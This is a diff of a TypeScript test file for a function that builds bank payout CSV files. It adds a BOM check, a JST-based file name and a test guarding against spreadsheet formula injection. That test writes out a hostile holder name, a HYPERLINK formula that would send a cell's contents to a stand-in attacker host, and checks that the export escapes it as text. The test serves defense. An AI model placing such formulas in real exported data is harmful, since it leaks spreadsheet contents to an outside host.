@@ -152,11 +152,21 @@ describe("buildPayoutCsv", () => {
   it("is sorted, CRLF-terminated, quoted where needed", () => {
     const file = buildPayoutCsv(rows, batch);
     expect(file.csv).toBe(
-      "bank_code,branch_code,account_number_masked,account_number,holder_name,amount_yen,case_ids\r\n" +
+      "\uFEFFbank_code,branch_code,account_number_masked,account_number,holder_name,amount_yen,case_ids\r\n" +
         '9900,019,****001,0000001,"スズキ, ハナコ",250000,aaaa\r\n' +
         '0125,101,****567,1234567,"ヤマダ ""タロウ""",1000,bbbb\r\n',
     );
-    expect(file).toMatchObject({ fileName: "payout-20200910T010203Z-batch-1.csv", caseCount: 2, totalYen: 251_000 });
+    // 01:02 UTC is 10:02 in Japan: the file name says so.
+    expect(file).toMatchObject({ fileName: "payout-batch-batch-1-20200910-1002JST.csv", caseCount: 2, totalYen: 251_000 });
+  });
+  it("writes a formula-looking holder name as text (defect 2), with a BOM and katakana intact on the bytes", () => {
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const file = buildPayoutCsv([{ ...rows[0], holderName: evil }, rows[1]], batch);
+    const bytes = Buffer.from(file.csv, "utf8");
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes)).toContain("スズキ, ハナコ");
+    expect(file.csv).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1000,bbbb\r\n`);
+    expect(file.csv).not.toMatch(/,"?=HYPERLINK/);
   });
   it("puts several cases for one victim account into one row with the summed amount", () => {
     const file = buildPayoutCsv([...rows, { ...rows[0], caseId: "0000", amountYen: 500 }], batch);
